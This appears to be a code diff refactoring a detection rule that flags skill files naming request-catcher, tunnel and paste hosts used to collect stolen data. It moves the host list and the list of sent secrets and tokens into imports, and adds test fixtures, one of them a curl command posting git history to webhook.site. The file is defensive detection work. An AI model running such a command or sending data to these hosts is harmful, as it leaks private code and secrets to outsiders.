@@ -1,4 +1,10 @@
 /** EX-06: The skill names a host that catches requests, tunnels or holds pastes, often used to collect stolen data. */
+import { inFile } from '../../engine/example.ts';
+import {
+  catcherHosts,
+  ordinaryCatcherUses,
+  sentThings,
+} from '../../vocabulary/exfiltration/ex-06-request-catchers.ts';
 import {
   blank,
   chars,
@@ -19,51 +25,7 @@ import {
 import { runKinds, row, type PatternRule } from '../../engine/rule.ts';
 
 /** Hosts and paths that exist to catch what is sent to them. */
-const catchers = oneOf(
-  'webhook.site',
-  'requestbin.(com|net)',
-  'pipedream.net',
-  'requestcatcher.com',
-  'hookbin.com',
-  'beeceptor.com',
-  'ngrok(-free).(io|app|dev)',
-  'trycloudflare.com',
-  'loca.lt',
-  'localtunnel.me',
-  'serveo.net',
-  'localhost.run',
-  'burpcollaborator.net',
-  'oastify.com',
-  seq('oast.', oneOf('pro', 'live', 'site', 'online', 'fun', 'me')),
-  'interact.sh',
-  'interactsh.com',
-  'dnslog.cn',
-  'canarytokens.(com|org)',
-  'pastebin.com',
-  'paste.ee',
-  'hastebin.com',
-  'ghostbin.(co|com)',
-  'dpaste.(com|org)',
-  'transfer.sh',
-  'file.io',
-  '0x0.st',
-  'termbin.com',
-  'ix.io',
-  'sprunge.us',
-  'bashupload.com',
-  'temp.sh',
-  'gofile.io',
-  'anonfiles.com',
-  'catbox.moe',
-  'api.telegram.org/bot',
-  'discord(app).com/api/webhooks',
-  'mockbin.(org|io)',
-  'typedwebhook.tools',
-  'smee.io',
-  'postb.in',
-  'rbnd.gl',
-  'requestinspector.com',
-);
+const catchers = oneOf(...catcherHosts, seq('oast.', oneOf('pro', 'live', 'site', 'online', 'fun', 'me')));
 
 export const requestCatchers: PatternRule = {
   id: 'EX-06',
@@ -94,50 +56,22 @@ export const requestCatchers: PatternRule = {
             seq(
               word(oneOf('send', 'upload', 'post', 'submit', 'deliver', 'forward')),
               dotted(60),
-              oneOf(
-                'it',
-                'them',
-                'content(s)',
-                'file',
-                'data',
-                'result',
-                'output',
-                'secret(s)',
-                'key(s)',
-                'token(s)',
-                'credential(s)',
-                'environment',
-              ),
+              oneOf(...sentThings),
             ),
           ),
         ),
       ],
-      unless: [
-        pattern(
-          word(
-            oneOf(
-              'signature',
-              'stripe listen',
-              'forward-to',
-              'local (testing|development|webhook)',
-              'test(ing) webhook(s)',
-              'webhook (url|endpoint|testing)',
-              'tunnel',
-              'expose (your )local',
-              'discord (bot|webhook|notification)(s)',
-              'telegram (bot|notification)(s)',
-              seq('notif', letters(2, 10)),
-              stem('alert', 4),
-            ),
-          ),
-        ),
-      ],
+      unless: [pattern(word(oneOf(...ordinaryCatcherUses, seq('notif', letters(2, 10)), stem('alert', 4))))],
       severity: 'high',
+      catches: [inFile('scripts/a.sh', 'curl -d "$(git log)" https://webhook.site/abc')],
+      spares: ['Post it to the team page.'],
     }),
     row('the address alone', {
       within: 'line',
       match: pattern(scheme, times(0, 3, times(1, 60, chars('\\w-')), '.'), catchers),
       severity: 'medium',
+      catches: ['See https://pastebin.com/abc.'],
+      spares: ['Post the result to https://hooks.acme.example/build.'],
     }),
   ],
 };
